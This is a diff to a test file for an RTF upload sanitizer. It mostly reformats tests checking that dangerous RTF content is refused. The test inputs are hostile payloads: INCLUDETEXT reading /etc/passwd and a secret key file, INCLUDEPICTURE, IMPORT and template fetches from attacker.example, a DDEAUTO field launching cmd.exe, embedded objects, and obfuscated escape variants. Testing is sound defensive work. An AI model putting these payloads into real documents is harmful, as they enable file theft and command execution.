@@ -25,23 +25,31 @@ describe('inspectRtfText', () => {
     ['INCLUDETEXT "/srv/signet/data/keys/auth.secret"', 'INCLUDETEXT'],
     ['includetext "file:///etc/passwd"', 'INCLUDETEXT'],
     ['{INCLUDE}{TEXT "C:\\\\\\\\secret.txt"}', 'INCLUDETEXT'],
-    ["INCLUDE\\'50ICTURE \"http://attacker.example/x\"", 'INCLUDEPICTURE'],
+    ['INCLUDE\\\'50ICTURE "http://attacker.example/x"', 'INCLUDEPICTURE'],
     ['\\u73?NCLUDEPICTURE "http://attacker.example/x"', 'INCLUDEPICTURE'],
     ['LINK Excel.Sheet.8 "\\\\\\\\server\\\\share\\\\book.xls" "Sheet1!R1C1"', 'LINK'],
     ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'DDEAUTO'],
     ['IF 1 = 1 "{\\field{\\*\\fldinst IMPORT "http://attacker.example/x.wmf"}}"', 'IMPORT'],
   ])('refuses a field that loads outside content: %s', (instruction, name) => {
-    expect(() => inspectRtfText(field(instruction))).toThrow(expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining(name) }));
+    expect(() => inspectRtfText(field(instruction))).toThrow(
+      expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining(name) }),
+    );
   });
 
   it('refuses embedded and linked objects', () => {
     const object = rtf('{\\object\\objemb{\\*\\objclass Excel.Sheet.12}{\\*\\objdata 01050000020000000b000000}}');
-    expect(() => inspectRtfText(object)).toThrow(expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('object') }));
+    expect(() => inspectRtfText(object)).toThrow(
+      expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('object') }),
+    );
     expect(() => inspectRtfText(rtf('{\\objautlink x}'))).toThrow(expect.objectContaining({ code: 'UNSAFE_FILE' }));
   });
 
   it('refuses a template on another machine', () => {
-    for (const template of ['http://attacker.example/t.dotm', '\\\\\\\\attacker\\\\share\\\\t.dotm', 'file://attacker/t.dotm']) {
+    for (const template of [
+      'http://attacker.example/t.dotm',
+      '\\\\\\\\attacker\\\\share\\\\t.dotm',
+      'file://attacker/t.dotm',
+    ]) {
       expect(() => inspectRtfText(rtf(`{\\*\\template ${template}}Text`))).toThrow(
         expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('template') }),
       );
@@ -50,7 +58,9 @@ describe('inspectRtfText', () => {
 
   it('refuses absurdly deep nesting', () => {
     const deep = `{\\rtf1 ${'{'.repeat(MAX_RTF_DEPTH + 1)}x${'}'.repeat(MAX_RTF_DEPTH + 1)}}`;
-    expect(() => inspectRtfText(deep)).toThrow(expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('nested') }));
+    expect(() => inspectRtfText(deep)).toThrow(
+      expect.objectContaining({ code: 'UNSAFE_FILE', detail: expect.stringContaining('nested') }),
+    );
   });
 });
 
@@ -67,7 +77,9 @@ describe('checkUploadContent for .rtf', () => {
         return Promise.reject(new Error('not reached'));
       },
     } as unknown as OfficeConverter;
-    await expect(checkUploadContent(claimedFileKind('letter.rtf'), { size: bytes.length, file }, { maxPages: 10, converter })).rejects.toMatchObject({
+    await expect(
+      checkUploadContent(claimedFileKind('letter.rtf'), { size: bytes.length, file }, { maxPages: 10, converter }),
+    ).rejects.toMatchObject({
       code: 'UNSAFE_FILE',
     });
     expect(converted).toBe(false);
